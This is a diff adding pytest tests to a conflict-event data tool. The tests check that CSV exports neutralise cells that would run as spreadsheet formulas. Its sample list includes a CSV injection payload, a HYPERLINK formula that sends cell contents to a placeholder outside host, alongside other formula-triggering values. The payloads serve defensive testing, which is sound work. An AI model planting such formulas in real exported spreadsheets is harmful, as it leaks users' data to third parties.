@@ -18,6 +18,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from conflictmap import ingest
+from conflictmap.csvsafe import TRIGGERS, neutralise
 from conflictmap.export import csv_text
 from conflictmap.store import event_to_yaml, load_file
 
@@ -41,9 +42,23 @@ def table(path: Path) -> tuple[list[str], list[dict[str, str]]]:
         return list(reader.fieldnames or []), rows
 
 
+def read_back(exported: Path, id_col: str) -> tuple[list[str], list[dict[str, str]]]:
+    """An exported CSV as our import reads it (neutralised formula cells given back)."""
+    t = ingest.read_table(exported, id_col)
+    return t.header, t.frame.to_dict("records")
+
+
+def assert_no_formula(exported: Path) -> None:
+    """No cell a spreadsheet would run: each starting like a formula has been neutralised."""
+    for cells in csv.reader(exported.open(newline="", encoding="utf-8")):
+        for c in cells:
+            assert c[:1] not in TRIGGERS or neutralise(c) == c, c  # numbers stay numbers
+
+
 def assert_same_cells(original: Path, exported: Path, id_col: str) -> None:
     head, rows = table(original)
-    head_out, rows_out = table(exported)
+    head_out, rows_out = read_back(exported, id_col)
+    assert_no_formula(exported)
     assert head_out[:len(head)] == head  # the dataset's columns first, in its order
     assert "id_cm" in head_out[len(head):]  # then ours
     back = {r[id_col]: r for r in rows_out}
@@ -178,12 +193,14 @@ def test_any_acled_row_survives_yaml_and_csv(tmp_path_factory, row):
     assert problems == []
     assert back[0].dataset is not None and back[0].dataset.columns == row
     assert yaml.safe_load(text)["dataset"]["columns"] == row
-    out = list(csv.DictReader(io.StringIO(csv_text([dict(row)], head), newline="")))
+    exported = _write(src.with_suffix(".out.csv"), csv_text([dict(row)], head))
+    assert_no_formula(exported)
+    out = read_back(exported, "event_id_cnty")[1]
     assert {c: out[0][c] for c in head} == row
 
 
 def _write(path: Path, text: str) -> Path:
-    path.write_text(text, encoding="utf-8")
+    path.write_text(text, encoding="utf-8", newline="")
     return path
 
 
@@ -264,3 +281,52 @@ def test_text_that_looks_like_json_stays_text_in_geojson(tmp_path):
     props = json.loads((tmp_path / "out" / "events.geojson").read_text("utf-8"))[
         "features"][0]["properties"]
     assert props["title"] == "[1, 2]" and props["description"] == '{"a": 1}'
+
+
+# ---------------------------------------------------------------- formulas (OWASP CSV injection)
+
+FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"Click")', "+SUM(1)", "@SUM(1)", "-2+3", "'=x",
+            "''+1", "\tTAB", "\rCR", "＝1+1", "'plain quote", "-1.5", "-"]
+
+
+@pytest.mark.parametrize("notes", FORMULAS)
+def test_formula_cells_go_out_neutralised_and_come_back_as_they_were(tmp_path, notes):
+    _, rows = table(ACLED)
+    row = {**rows[0], "notes": notes, "admin2": notes}
+    events, skipped = ingest.convert("acled", _write(tmp_path / "in.csv", _csv([row])))
+    assert skipped == [] and events[0].dataset.columns["notes"] == notes
+    out = _write(tmp_path / "out.csv", csv_text([{**row, "description_cm": notes}], list(row)))
+    raw = next(r for r in csv.DictReader(out.open(newline="", encoding="utf-8")))
+    assert raw["notes"] == raw["admin2"] == raw["description_cm"] == neutralise(notes)
+    if notes[:1] in "=+@\t\r＝" or notes.startswith("'="):
+        assert raw["notes"] == "'" + notes
+    assert_no_formula(out)
+    back = read_back(out, "event_id_cnty")[1][0]
+    assert back["notes"] == back["admin2"] == back["description_cm"] == notes
+
+
+def test_plain_numbers_are_not_neutralised(tmp_path):
+    for cell in ("-1.5", "+3", "-2e5", "40.0853", "-0"):
+        assert neutralise(cell) == cell
+
+
+def test_the_fixture_hyperlink_note_is_neutralised_end_to_end(tmp_path):
+    _, rows = table(ACLED)
+    note = next(r["notes"] for r in rows if r["notes"].startswith("=HYPERLINK"))
+    events = tmp_path / "events"
+    assert cm("import", "acled", str(ACLED), "--events", str(events)).returncode == 0
+    out = tmp_path / "out.csv"
+    assert cm("export", "--format", "csv", "--events", str(events), "--out",
+              str(out)).returncode == 0
+    assert "'" + note in {r["notes"] for r in csv.DictReader(out.open(encoding="utf-8"))}
+    again = {e.id: e for e in ingest.convert("acled", out)[0]}
+    assert note in {e.description for e in again.values()}
+    assert note in {e.dataset.columns["notes"] for e in again.values() if e.dataset}
+
+
+def _csv(rows: list[dict[str, str]]) -> str:
+    buf = io.StringIO()
+    w = csv.DictWriter(buf, fieldnames=list(rows[0]), lineterminator="\r\n")
+    w.writeheader()
+    w.writerows(rows)
+    return buf.getvalue()
